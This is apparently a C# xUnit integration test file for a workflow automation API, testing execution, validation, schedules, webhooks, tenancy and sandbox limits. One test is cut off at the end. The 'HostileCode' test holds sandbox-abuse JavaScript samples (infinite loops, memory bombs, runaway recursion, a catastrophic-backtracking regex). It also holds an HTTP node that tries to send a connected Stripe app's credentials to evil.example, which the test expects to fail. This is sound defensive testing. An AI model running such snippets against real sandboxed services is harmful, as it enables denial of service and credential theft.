using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using Patchbay.Executions;
using Patchbay.Schedules;
using Patchbay.Tests.Contract;
using Patchbay.Tests.Infrastructure;
using Patchbay.Workflows;
using Xunit;

namespace Patchbay.Tests.Workflows;

// Workflows end to end through the public API: define, validate, publish, execute (sync and async), read executions
// node by node; events, schedules, stop, rerun, retries, delays, webhooks, child workflows, loops, hostile code.
public abstract class WorkflowTests(PatchbayApp app)
{
    static CancellationToken Ct => TestContext.Current.CancellationToken;

    // A fresh org (its own key) with one linked account.
    async Task<(string Key, string Account)> OrgAsync()
    {
        var (_, key, _) = await app.CreateOrgAsync("Workflow Org");
        return (key, await app.CreateLinkedAccountAsync(apiKey: key));
    }

    internal static StringContent Body(object value) => new(JsonSerializer.Serialize(value), Encoding.UTF8, "application/json");

    internal static JsonObject Graph(object[] nodes, object[] edges, object? settings = null) =>
        JsonSerializer.SerializeToNode(new { nodes, edges, settings = settings ?? new { } })!.AsObject();

    internal static object Node(string id, string type, object? data = null, int attempts = 1) => new { id, type, name = id, data = data ?? new { }, maximum_attempts = attempts };

    internal static object Edge(string source, string target, string? handle = null) => new { id = $"{source}-{target}-{handle}", source, target, sourceHandle = handle };

    // Creates a private workflow for the account with the graph, publishes it; returns (draft id, version id).
    internal static async Task<(string Draft, string Version)> PublishAsync(HttpClient client, JsonObject graph, string name = "Flow", string? alias = null)
    {
        var created = await ApiAssert.OkAsync(await client.PostAsync("/api/v2/public/workflow", Body(new { name }), Ct));
        RefoldOpenApi.AssertResponse("POST", "/api/v2/public/workflow", 200, created);
        var draft = created.GetProperty("workflow").Str("_id");
        graph["name"] = name;
        if (alias is not null) graph["workflow_alias"] = alias;
        await ApiAssert.OkAsync(await client.PutAsync($"/api/v2/public/workflow/{draft}", new StringContent(graph.ToJsonString(), Encoding.UTF8, "application/json"), Ct));
        var published = await ApiAssert.OkAsync(await client.PutAsync($"/api/v2/public/workflow/{draft}/publish", Body(new { published = true }), Ct));
        RefoldOpenApi.AssertResponse("PUT", "/api/v2/public/workflow/{workflowId}/publish", 200, published);
        return (draft, published.Str("_id"));
    }

    internal static HttpRequestMessage Execute(string version, object payload, bool sync, string slug = "custom")
    {
        var request = new HttpRequestMessage(HttpMethod.Post, $"/api/v2/public/workflow/{version}/execute") { Content = Body(payload) };
        request.Headers.Add("slug", slug);
        if (sync) request.Headers.Add("sync_execution", "true");
        return request;
    }

    async Task DrainAsync()
    {
        var worker = app.Services.GetRequiredService<ExecutionWorker>();
        while (await worker.RunOnceAsync(Ct)) { }
    }

    internal static async Task<JsonElement> ExecutionAsync(HttpClient client, string id)
    {
        var json = await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution/{id}", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/execution/{execution_id}", 200, json);
        return json;
    }

    static readonly JsonObject CodeFlow = Graph(
        [
            Node("start", "start"),
            Node("double", "code", new { code = "return { total: payload.amount * 2, who: payload.email };" }),
            Node("big", "condition", new { left = "{{nodes.double.output.total}}", @operator = "greater_than", right = 100 }),
            Node("yes", "response", new { status = 201, body = new { size = "big", total = "{{nodes.double.output.total}}" } }),
            Node("no", "response", new { body = new { size = "small", text = "total is {{nodes.double.output.total}} for {{payload.email}}" } }),
        ],
        [Edge("start", "double"), Edge("double", "big"), Edge("big", "yes", "true"), Edge("big", "no", "false")]);

    [Fact]
    public async Task SyncExecute_RunsCodeConditionAndResponse_ReturnsInline()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var (_, version) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());

        using var big = await client.SendAsync(Execute(version, new { amount = 60, email = "a@b.test" }, sync: true), Ct);
        var result = await ApiAssert.JsonAsync(big, 201);
        RefoldOpenApi.AssertResponse("POST", "/api/v2/public/workflow/{workflowId}/execute", 200, result);
        Assert.Equal("""{"size":"big","total":120}""", result.GetProperty("return_value").GetRawText());
        Assert.False(result.GetProperty("errored").GetBoolean());
        Assert.Equal(201, result.GetProperty("status_code").GetInt32());

        using var small = await client.SendAsync(Execute(version, new { amount = 5, email = "a@b.test" }, sync: true), Ct);
        var smallResult = await ApiAssert.OkAsync(small);
        Assert.Equal("total is 10 for a@b.test", smallResult.GetProperty("return_value").Str("text"));

        var detail = await ExecutionAsync(client, smallResult.Str("execution_id"));
        Assert.Equal("COMPLETED", detail.Str("status"));
        Assert.Equal(100, detail.GetProperty("completion_percentage").GetInt32());
        Assert.Equal("SYNC", detail.Str("type_of_execution"));
        Assert.Equal("API Call", detail.Str("trigger_application_event"));
        Assert.Equal(["start", "double", "big", "no"], detail.GetProperty("nodes").EnumerateArray().Select(n => n.Str("node_id")));
        Assert.All(detail.GetProperty("nodes").EnumerateArray(), n => Assert.Equal("Success", n.Str("node_status")));
        Assert.Equal(10, detail.GetProperty("nodes")[1].GetProperty("latest_output").GetProperty("total").GetInt32());
    }

    [Fact]
    public async Task AsyncExecute_IsQueued_ThenRunByTheWorker()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var (draft, version) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone(), alias: "double-it-" + Guid.NewGuid().ToString("N")[..6]);
        var started = await ApiAssert.OkAsync(await client.SendAsync(Execute(version, new { amount = 1 }, sync: false), Ct));
        Assert.Equal("Workflow execution started", started.Str("message"));
        var id = started.Str("execution_id");
        Assert.Equal("RUNNING", (await ExecutionAsync(client, id)).Str("status"));
        await DrainAsync();
        var done = await ExecutionAsync(client, id);
        Assert.Equal("COMPLETED", done.Str("status"));
        var response = await ApiAssert.OkAsync(await client.GetAsync($"/api/v1/execution/{id}/response", Ct));
        Assert.Equal("small", response.GetProperty("response").Str("size"));

        // v1 by alias, by draft id.
        var alias = (await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/workflow/{draft}", Ct))).Str("workflow_alias");
        var v1 = await ApiAssert.OkAsync(await client.PostAsync($"/api/v1/workflow/{alias}/execute", Body(new { amount = 100 }), Ct));
        Assert.Equal(["execution_id"], v1.EnumerateObject().Select(p => p.Name));
        var list = await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution?workflow_id={draft}&status=RUNNING", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/execution", 200, list);
        Assert.Equal(1, list.GetProperty("totalDocs").GetInt32());
        await DrainAsync();
        Assert.Equal(0, (await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution?workflow_id={draft}&status=RUNNING", Ct))).GetProperty("totalDocs").GetInt32());
        Assert.Equal(2, (await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution?workflow_id={draft}&status=COMPLETED&execution_source=API_CALL", Ct))).GetProperty("totalDocs").GetInt32());
    }

    [Fact]
    public async Task Validation_NamesTheNodeAtFault()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var draft = (await ApiAssert.OkAsync(await client.PostAsync("/api/v2/public/workflow", Body(new { name = "Bad" }), Ct))).GetProperty("workflow").Str("_id");
        async Task Refused(JsonObject graph, string message)
        {
            var error = await ApiAssert.ErrorAsync(await client.PutAsync($"/api/v2/public/workflow/{draft}", new StringContent(graph.ToJsonString(), Encoding.UTF8, "application/json"), Ct),
                400, "BAD_REQUEST", "VALIDATION_ERROR");
            Assert.Contains(message, error.Str("message"));
        }
        await Refused(Graph([Node("start", "start"), Node("x", "teleport")], []), "Node 'x' has unknown type 'teleport'");
        await Refused(Graph([Node("start", "start")], [Edge("start", "ghost")]), "points to unknown node 'ghost'");
        await Refused(Graph([Node("start", "start"), Node("a", "code", new { code = "return 1;" }), Node("b", "code", new { code = "return 2;" })],
            [Edge("start", "a"), Edge("a", "b"), Edge("b", "a")]), "is part of a cycle");
        await Refused(Graph([Node("start", "start"), Node("h", "http")], [Edge("start", "h")]), "Node 'h' (http) needs 'url'");
        await Refused(Graph([Node("start", "start"), Node("c", "code", new { code = "return {;" })], [Edge("start", "c")]), "Node 'c' (code): JavaScript syntax error");
        await Refused(Graph([Node("start", "start"), Node("if", "condition", new { expression = "true" }), Node("r", "response")], [Edge("start", "if"), Edge("if", "r")]),
            "needs a sourceHandle (true or false)");
        await Refused(Graph([Node("a", "code", new { code = "return 1;" })], []), "exactly one start node");
        // Nothing stored changed.
        var stored = await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/workflow/{draft}", Ct));
        Assert.Equal(1, stored.GetProperty("nodes").GetArrayLength());
        // Unpublished: cannot execute.
        await ApiAssert.ErrorAsync(await client.SendAsync(Execute(draft, new { }, sync: true), Ct), 404, "NOT_FOUND", "SERVER_ERROR");
        // v2 needs the slug header.
        using var noSlug = new HttpRequestMessage(HttpMethod.Post, $"/api/v2/public/workflow/{draft}/execute") { Content = Body(new { }) };
        await ApiAssert.ErrorAsync(await client.SendAsync(noSlug, Ct), 400, "BAD_REQUEST", "VALIDATION_ERROR", "Workflow ID and slug are required");
    }

    [Fact]
    public async Task HostileCode_FailsOnlyItsNode_WithAClearError()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        foreach (var (code, message) in new[]
        {
            ("while (true) {}", "ran"),                                                    // statements or time
            ("const a = []; while (true) { a.push('x'.repeat(1000000)); }", "MB"),        // memory
            ("function f(n) { return f(n + 1) + 1; } return f(0);", "recursed deeper"),   // recursion
            ("return globalThis.System === undefined && typeof require === 'undefined' ? eval('1') : 'host';", "String compilation has been disabled"), // no eval, no host
            // These crashed the server before code ran in sandbox processes (a stack overflow cannot be caught).
            ("let o = []; for (let i = 0; i < 100000; i++) o = [o]; return o;", "nested deeper than 48 levels"),
            ("let o = []; for (let i = 0; i < 100000; i++) o = [o]; return JSON.stringify(o).length;", "the script"),
            // These ran past their limits inside one statement.
            ("return 'x'.repeat(2 ** 27).length;", "MB"),
            ("return new ArrayBuffer(2 ** 29).byteLength;", "MB"),
            ("return Atomics.wait(new Int32Array(new SharedArrayBuffer(16)), 0, 0, 20000);", "Atomics.wait cannot be used"),
            ("return /(a+)+$/.test('a'.repeat(40) + 'b');", "ran longer than 2000 ms"),
        })
        {
            var (_, version) = await PublishAsync(client, Graph([Node("start", "start"), Node("evil", "code", new { code })], [Edge("start", "evil")]));
            var result = await ApiAssert.JsonAsync(await client.SendAsync(Execute(version, new { }, sync: true), Ct), 500);
            Assert.True(result.GetProperty("errored").GetBoolean());
            var detail = await ExecutionAsync(client, result.Str("execution_id"));
            Assert.Equal("ERRORED", detail.Str("status"));
            var node = detail.GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "evil");
            Assert.Equal("Errored", node.Str("node_status"));
            Assert.Contains(message, node.Str("error"));
        }
        // A connected app's credentials go only to its own API.
        var (_, leak) = await PublishAsync(client, Graph([Node("start", "start"), Node("steal", "http", new { app = "stripe", path = "https://evil.example/x" })],
            [Edge("start", "steal")]));
        var leaked = await ApiAssert.JsonAsync(await client.SendAsync(Execute(leak, new { }, sync: true), Ct), 500);
        Assert.Contains("must be a path on Stripe's API", (await ExecutionAsync(client, leaked.Str("execution_id"))).Str("error"));
        // The server is fine.
        var (_, ok) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());
        await ApiAssert.OkAsync(await client.SendAsync(Execute(ok, new { amount = 1 }, sync: true), Ct));
    }

    async Task RunWorkersAsync(int rounds = 6)
    {
        var worker = app.Services.GetRequiredService<ExecutionWorker>();
        for (var i = 0; i < rounds; i++) await worker.RunOnceAsync(Ct);
    }

    static async Task<string> StartAsync(HttpClient client, string version, object payload)
    {
        var started = await ApiAssert.OkAsync(await client.SendAsync(Execute(version, payload, sync: false), Ct));
        return started.Str("execution_id");
    }

    [Fact]
    public async Task Delay_IsDurable_ResumesWhenDue_AndStopWorks()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var (_, version) = await PublishAsync(client, Graph(
            [Node("start", "start"), Node("wait", "delay", new { seconds = 60 }), Node("done", "response", new { body = "late" })],
            [Edge("start", "wait"), Edge("wait", "done")]));
        var id = await StartAsync(client, version, new { });
        var other = await StartAsync(client, version, new { });
        await RunWorkersAsync();
        var parked = await ExecutionAsync(client, id);
        Assert.Equal("RUNNING", parked.Str("status"));
        var waiting = parked.GetProperty("nodes").EnumerateArray().Last();
        Assert.Equal("Waiting", waiting.Str("node_status"));
        Assert.Equal("wait", waiting.Str("node_id"));

        // Stop one while it waits.
        var stop = await ApiAssert.OkAsync(await client.PostAsync($"/api/v2/public/execution/{other}/stop", null, Ct));
        RefoldOpenApi.AssertResponse("POST", "/api/v2/public/execution/{instanceId}/stop", 200, stop);
        Assert.Equal("STOPPING", (await ExecutionAsync(client, other)).Str("status"));
        await RunWorkersAsync(1);
        Assert.Equal("STOPPED", (await ExecutionAsync(client, other)).Str("status"));
        await ApiAssert.ErrorAsync(await client.PostAsync($"/api/v2/public/execution/{other}/stop", null, Ct), 400, "BAD_REQUEST", "VALIDATION_ERROR");

        app.Time.Advance(TimeSpan.FromSeconds(30));
        await RunWorkersAsync(1);
        Assert.Equal("RUNNING", (await ExecutionAsync(client, id)).Str("status"));
        app.Time.Advance(TimeSpan.FromSeconds(31));
        await RunWorkersAsync(1);
        var done = await ExecutionAsync(client, id);
        Assert.Equal("COMPLETED", done.Str("status"));
        Assert.Equal("late", done.GetProperty("return_value").GetString());
        Assert.Equal(["start", "wait", "done"], done.GetProperty("nodes").EnumerateArray().Select(n => n.Str("node_id")));

        // Rerun: a new execution of the same workflow and payload.
        var rerun = await ApiAssert.OkAsync(await client.PostAsync($"/api/v2/public/execution/{other}/rerun", null, Ct));
        RefoldOpenApi.AssertResponse("POST", "/api/v2/public/execution/{instanceId}/rerun", 200, rerun);
        Assert.Equal("success", rerun.Str("status"));
        Assert.StartsWith("Retry for workflow", (await ExecutionAsync(client, rerun.Str("id"))).Str("name"));
    }

    [Fact]
    public async Task WaitForWebhook_LoopAndChildWorkflow()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var alias = "triple-" + Guid.NewGuid().ToString("N")[..8];
        await PublishAsync(client, Graph(
            [Node("start", "start"), Node("triple", "code", new { code = "return payload.x * 3;" }), Node("out", "response", new { body = "{{nodes.triple.output}}" })],
            [Edge("start", "triple"), Edge("triple", "out")]), "Child", alias);
        var (_, parent) = await PublishAsync(client, Graph(
            [
                Node("start", "start"),
                Node("each", "loop", new { items = "{{payload.items}}" }),
                Node("times", "code", new { code = "return loop.item * 10 + loop.index;" }),
                Node("hook", "wait_webhook"),
                Node("call", "call_workflow", new { workflow_id = alias, payload = new { x = "{{nodes.hook.output.body.answer}}" } }),
                Node("out", "response", new { body = new { loop = "{{nodes.each.output.results}}", child = "{{nodes.call.output.return_value}}" } }),
            ],
            [Edge("start", "each"), Edge("each", "times", "each"), Edge("each", "hook", "done"), Edge("hook", "call"), Edge("call", "out")]), "Parent");

        var id = await StartAsync(client, parent, new { items = new[] { 1, 2, 3 } });
        await RunWorkersAsync();
        var waiting = await ExecutionAsync(client, id);
        var hook = waiting.GetProperty("nodes").EnumerateArray().Last();
        Assert.Equal("Waiting", hook.Str("node_status"));
        var url = new Uri(hook.GetProperty("latest_output").Str("webhook_url"));

        var anonymous = app.CreateClient();
        await ApiAssert.OkAsync(await anonymous.PostAsync(url.PathAndQuery, Body(new { answer = 14 }), Ct));
        await ApiAssert.ErrorAsync(await anonymous.PostAsync(url.PathAndQuery, Body(new { answer = 15 }), Ct), 404, "NOT_FOUND", "RESOURCE_NOT_FOUND");
        await RunWorkersAsync();

        var done = await ExecutionAsync(client, id);
        Assert.Equal("COMPLETED", done.Str("status"));
        Assert.Equal("""{"loop":[10,21,32],"child":42}""", done.GetProperty("return_value").GetRawText());
        Assert.Equal(3, done.GetProperty("nodes").EnumerateArray().Count(n => n.Str("node_id") == "times"));
        var children = await ApiAssert.OkAsync(await client.GetAsync("/api/v2/public/execution?workflow_name=Child", Ct));
        Assert.True(children.GetProperty("docs")[0].GetProperty("is_child_instance").GetBoolean());
    }

    [Fact]
    public async Task HttpNode_CallsConnectedApp_RetriesTransientFailures()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        await ApiAssert.OkAsync(await client.PutAsync("/api/v2/public/linked-account/integration/save-key-credentials/stripe", Body(new { api_key = FakeProvider.StripeKey }), Ct));
        var (_, version) = await PublishAsync(client, Graph(
            [
                Node("start", "start"),
                Node("account", "http", new { app = "stripe", path = "/v1/account" }, attempts: 3),
                Node("out", "response", new { body = "{{nodes.account.output.body.email}}" }),
            ],
            [Edge("start", "account"), Edge("account", "out")]));
        var sync = await ApiAssert.OkAsync(await client.SendAsync(Execute(version, new { }, sync: true), Ct));
        Assert.Equal("owner@acme.test", sync.GetProperty("return_value").GetString());
        Assert.Contains(app.Fake!.Requests, r => r.Path == "/v1/account" && r.Authorization == $"Bearer {FakeProvider.StripeKey}");

        app.Fake.StripeDown = true;
        try
        {
            var id = await StartAsync(client, version, new { });
            await RunWorkersAsync(1);
            app.Time.Advance(TimeSpan.FromSeconds(1.5));
            await RunWorkersAsync(1);
            var retrying = await ExecutionAsync(client, id);
            Assert.Equal("RUNNING", retrying.Str("status"));
            Assert.True(2 == retrying.GetProperty("nodes").EnumerateArray().Last().GetProperty("attempts_made").GetInt32(), retrying.ToString());
            app.Fake.StripeDown = false;
            app.Time.Advance(TimeSpan.FromSeconds(2.5));
            await RunWorkersAsync(1);
            var done = await ExecutionAsync(client, id);
            Assert.Equal("COMPLETED", done.Str("status"));
            Assert.Equal(3, done.GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "account").GetProperty("attempts_made").GetInt32());
        }
        finally
        {
            app.Fake.StripeDown = false;
        }
    }

    [Fact]
    public async Task Events_DefineFireIdempotently_AndPublicWorkflowsRunOnlyWhereEnabled()
    {
        var (key, account) = await OrgAsync();
        var org = app.ClientFor(key);
        var client = app.ClientFor(key, account);
        var name = "candidate_created";
        var events = await ApiAssert.OkAsync(await org.PostAsync("/api/v2/public/application/event", Body(new { name, response = "{\"email\":\"x@y.z\",\"n\":1}" }), Ct));
        RefoldOpenApi.AssertResponse("POST", "/api/v2/public/application/event", 200, events);
        var eventId = events[0].Str("_id");
        await ApiAssert.ErrorAsync(await org.PostAsync("/api/v2/public/application/event", Body(new { name, response = "{}" }), Ct), 400, "BAD_REQUEST", "INVALID_EVENT_ID",
            $"Trigger with name {name} already exists");
        await ApiAssert.ErrorAsync(await org.PostAsync("/api/v2/public/application/event", Body(new { name = "x" }), Ct), 400, "BAD_REQUEST", "SERVER_ERROR",
            "name and response are required");
        var one = await ApiAssert.OkAsync(await org.GetAsync($"/api/v2/public/application/event/{eventId}", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/application/event/{event_id}", 200, one);

        var listening = Graph(
            [Node("start", "start", new { trigger = new { type = "event", @event = name } }), Node("out", "response", new { body = "{{payload.email}}" })],
            [Edge("start", "out")]);
        var (privateDraft, _) = await PublishAsync(client, (JsonObject)listening.DeepClone(), "Private listener");
        var (publicDraft, _) = await PublishAsync(org, (JsonObject)listening.DeepClone(), "Public listener");

        async Task<int> FireAsync(string? idempotencyKey = null)
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, "/api/v2/public/event/trigger") { Content = Body(new { @event = name, payload = new { email = "c@d.test" } }) };
            if (idempotencyKey is not null) request.Headers.Add("idempotency-key", idempotencyKey);
            var fired = await ApiAssert.OkAsync(await client.SendAsync(request, Ct));
            Assert.Equal("""{"message":"Webhook Fired Success"}""", fired.GetRawText());
            await RunWorkersAsync(2);
            return (await ApiAssert.OkAsync(await client.GetAsync("/api/v2/public/execution?execution_source=Event&limit=100", Ct))).GetProperty("totalDocs").GetInt32();
        }
        Assert.Equal(1, await FireAsync()); // the private one; the public one is not enabled for this account
        var toggled = await ApiAssert.OkAsync(await client.PatchAsync($"/api/v2/public/slug/custom/config/{account}/workflows/{publicDraft}", Body(new { enabled = true }), Ct));
        RefoldOpenApi.AssertResponse("PATCH", "/api/v2/public/slug/{slug}/config/{configId}/workflows/{workflowId}", 200, toggled);
        Assert.Contains(toggled.GetProperty("workflows").EnumerateArray(), w => w.Str("id") == publicDraft && w.GetProperty("enabled").GetBoolean());
        Assert.Equal(3, await FireAsync("k1"));
        Assert.Equal(5, await FireAsync("k1")); // recorded, as DUPLICATE
        var statuses = (await ApiAssert.OkAsync(await client.GetAsync("/api/v2/public/execution?execution_source=Event&limit=100", Ct)))
            .GetProperty("docs").EnumerateArray().Select(d => d.Str("status")).ToList();
        Assert.Equal(2, statuses.Count(s => s == "DUPLICATE"));
        Assert.Equal(3, statuses.Count(s => s == "COMPLETED"));
        var enabled = await ApiAssert.OkAsync(await client.GetAsync("/api/v2/public/workflow/enabled", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/workflow/enabled", 200, enabled);
        Assert.Equal(publicDraft, Assert.Single(enabled.EnumerateArray()).Str("id"));
        _ = privateDraft;

        await ApiAssert.ErrorAsync(await client.PostAsync("/api/v2/public/event/trigger", Body(new { @event = "nope", payload = new { } }), Ct), 404, "NOT_FOUND", "INVALID_EVENT", "Trigger not found");
        var remaining = await ApiAssert.OkAsync(await org.DeleteAsync($"/api/v2/public/application/event/{eventId}", Ct));
        Assert.Equal(0, remaining.GetArrayLength());
        await ApiAssert.ErrorAsync(await org.GetAsync($"/api/v2/public/application/event/{eventId}", Ct), 404, "NOT_FOUND", "RESOURCE_NOT_FOUND", "Event not found");
    }

    [Fact]
    public async Task Schedules_CronAndInterval_FireWhenDue_PauseResume()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var (draft, _) = await PublishAsync(client, Graph([Node("start", "start"), Node("out", "response", new { body = "{{payload.kind}}" })], [Edge("start", "out")]));
        HttpRequestMessage Register(object body)
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/workflow/public/scheduled") { Content = Body(body) };
            request.Headers.Add("slug", "custom");
            request.Headers.Add("workflow_id_alias", draft);
            request.Headers.Add("config_id", account);
            return request;
        }
        var cron = await ApiAssert.OkAsync(await client.SendAsync(Register(new { trigger_type = "cron", regex = "*/5 * * * *", tz = "Europe/Paris", payload = new { kind = "cron" } }), Ct));
        RefoldOpenApi.AssertResponse("POST", "/api/v1/workflow/public/scheduled", 200, cron);
        Assert.Equal("*/5 * * * *", cron.Str("cron_patten"));
        Assert.Equal("running", cron.Str("status"));
        var at = app.Time.GetUtcNow().AddMinutes(2);
        var interval = await ApiAssert.OkAsync(await client.SendAsync(Register(new
        {
            trigger_type = "interval", tz = "UTC", payload = new { kind = "interval" },
            interval_dates = new[] { new { day = at.Day, month = at.Month, year = at.Year, hour = at.Hour, minute = at.Minute } },
        }), Ct));
        await ApiAssert.ErrorAsync(await client.SendAsync(Register(new { trigger_type = "cron", regex = "every day" }), Ct), 400, "BAD_REQUEST", "SERVER_ERROR",
            "Cron Job Could Not Be Added  , Regex Configuration failed to register");
        await ApiAssert.ErrorAsync(await client.SendAsync(Register(new { regex = "* * * * *" }), Ct), 400, "BAD_REQUEST", "SERVER_ERROR", "trigger_type is required");

        var worker = app.Services.GetRequiredService<ScheduleWorker>();
        app.Time.Advance(TimeSpan.FromMinutes(6));
        await worker.RunOnceAsync(Ct);
        await RunWorkersAsync(1);
        var runs = await ApiAssert.OkAsync(await client.GetAsync("/api/v2/public/execution?execution_source=Schedule", Ct));
        Assert.Equal(2, runs.GetProperty("totalDocs").GetInt32());
        Assert.Equal(["cron", "interval"], runs.GetProperty("docs").EnumerateArray().Select(d => ((JsonElement)d).Str("_id"))
            .Select(id => ExecutionAsync(client, id).Result.GetProperty("return_value").GetString()).Order());

        var paused = await ApiAssert.OkAsync(await client.PutAsync($"/api/v1/workflow/public/scheduled/{cron.Str("_id")}/pause", null, Ct));
        RefoldOpenApi.AssertResponse("PUT", "/api/v1/workflow/public/scheduled/{schedule_id}/pause", 200, paused);
        Assert.True(paused.GetProperty("inactive").GetBoolean());
        await ApiAssert.ErrorAsync(await client.PutAsync($"/api/v1/workflow/public/scheduled/{cron.Str("_id")}/pause", null, Ct), 400, "BAD_REQUEST", "SERVER_ERROR", "Scheduled Job Already Inactive");
        app.Time.Advance(TimeSpan.FromMinutes(10));
        await worker.RunOnceAsync(Ct);
        Assert.Equal(2, (await ApiAssert.OkAsync(await client.GetAsync("/api/v2/public/execution?execution_source=Schedule", Ct))).GetProperty("totalDocs").GetInt32());
        var resumed = await ApiAssert.OkAsync(await client.PutAsync($"/api/v1/workflow/public/scheduled/{cron.Str("_id")}/resume", null, Ct));
        Assert.Equal("running", resumed.Str("status"));

        var list = await ApiAssert.OkAsync(await client.GetAsync("/api/v1/workflow/public/scheduled", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v1/workflow/public/scheduled", 200, list);
        Assert.Equal(2, list.GetProperty("totalDocs").GetInt32());
        var deleted = await ApiAssert.OkAsync(await client.DeleteAsync($"/api/v1/workflow/public/scheduled/{interval.Str("_id")}", Ct));
        Assert.Equal("Scheduled Job Deleted Successfully", deleted.Str("message"));
        await ApiAssert.ErrorAsync(await client.DeleteAsync($"/api/v1/workflow/public/scheduled/{interval.Str("_id")}", Ct), 404, "NOT_FOUND", "RESOURCE_NOT_FOUND", "Scheduled Job Not Found");
    }

    [Fact]
    public async Task Tenancy_OtherOrgsAndAccountsSeeNothing()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var (draft, version) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());
        var id = (await ApiAssert.OkAsync(await client.SendAsync(Execute(version, new { amount = 1 }, sync: true), Ct))).Str("execution_id");

        var (otherKey, otherAccount) = await OrgAsync();
        var stranger = app.ClientFor(otherKey, otherAccount);
        await ApiAssert.ErrorAsync(await stranger.GetAsync($"/api/v2/public/execution/{id}", Ct), 404, "NOT_FOUND", "RESOURCE_NOT_FOUND", "Execution not found");
        await ApiAssert.ErrorAsync(await stranger.GetAsync($"/api/v2/public/workflow/{draft}", Ct), 404, "NOT_FOUND", "SERVER_ERROR", "Workflow not found");
        await ApiAssert.ErrorAsync(await stranger.SendAsync(Execute(version, new { }, sync: true), Ct), 404, "NOT_FOUND", "SERVER_ERROR");
        Assert.Equal(0, (await ApiAssert.OkAsync(await stranger.GetAsync("/api/v2/public/execution", Ct))).GetProperty("totalDocs").GetInt32());

        // Another account of the same org: not its private workflow, not its executions.
        var neighbour = await app.CreateLinkedAccountAsync(apiKey: key);
        var session = app.SessionClient(await app.CreateSessionTokenAsync(neighbour, key));
        await ApiAssert.ErrorAsync(await session.GetAsync($"/api/v2/public/execution/{id}", Ct), 404, "NOT_FOUND", "RESOURCE_NOT_FOUND");
        await ApiAssert.ErrorAsync(await session.GetAsync($"/api/v2/public/workflow/{draft}", Ct), 403, "FORBIDDEN", "SERVER_ERROR", "Workflow is private to another linked account");
        await ApiAssert.ErrorAsync(await session.SendAsync(Execute(version, new { }, sync: true), Ct), 403, "FORBIDDEN", "SERVER_ERROR");
        // An end user's session cannot change the org's public workflows.
        var (publicDraft, _) = await PublishAsync(app.ClientFor(key), (JsonObject)CodeFlow.DeepClone(), "Public");
        await ApiAssert.ErrorAsync(await session.PutAsync($"/api/v2/public/workflow/{publicDraft}", Body(new { name = "Hijacked" }), Ct), 403, "FORBIDDEN", "SESSION_TOKEN_NOT_ALLOWED");
        await ApiAssert.ErrorAsync(await session.PutAsync($"/api/v2/public/workflow/{publicDraft}/publish", Body(new { published = true }), Ct), 403, "FORBIDDEN", "SESSION_TOKEN_NOT_ALLOWED");
        await ApiAssert.ErrorAsync(await session.DeleteAsync($"/api/v2/public/workflow/{publicDraft}", Ct), 403, "FORBIDDEN", "SESSION_TOKEN_NOT_ALLOWED");
        Assert.Equal("Public", (await ApiAssert.OkAsync(await session.GetAsync($"/api/v2/public/workflow/{publicDraft}", Ct))).Str("name"));
        // A session token reaches its own account only; the org key sees the org's executions.
        Assert.Equal(1, (await ApiAssert.OkAsync(await app.ClientFor(key).GetAsync("/api/v2/public/execution", Ct))).GetProperty("totalDocs").GetInt32());
    }

    [Fact]
    public async Task WorkflowLifecycle_VersionsUnpublishDelete()
    {
        var (key, account) = await OrgAsync();
        var client = app.ClientFor(key, account);
        var (draft, v1) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());
        var v2 = (await ApiAssert.OkAsync(await client.PutAsync($"/api/v2/public/workflow/{draft}/publish", Body(new { published = true }), Ct))).Str("_id");
        Assert.NotEqual(v1, v2);
        var versions = await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/workflow/versions/{draft}", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/workflow/versions/{workflowId}", 200, versions);
        Assert.Equal([2, 1], versions.GetProperty("docs").EnumerateArray().Select(v => v.GetProperty("version").GetInt32()));
        var edit = await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/workflow/{v2}/edit", Ct));
        Assert.Equal(draft, edit.Str("_id"));
        Assert.Equal(2, edit.GetProperty("current_version").GetInt32());
        var list = await ApiAssert.OkAsync(await client.GetAsync("/api/v2/public/workflow?published=true", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/workflow", 200, list);
        var structure = await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/workflow/request-structure/{draft}", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/workflow/request-structure/{workflowId}", 200, structure);

        await ApiAssert.ErrorAsync(await client.PutAsync($"/api/v2/public/workflow/{draft}/publish", Body(new { published = false }), Ct), 400, "BAD_REQUEST", "INVALID_WORKFLOW_ID",
            "Only public and published workflows can be unpublished");
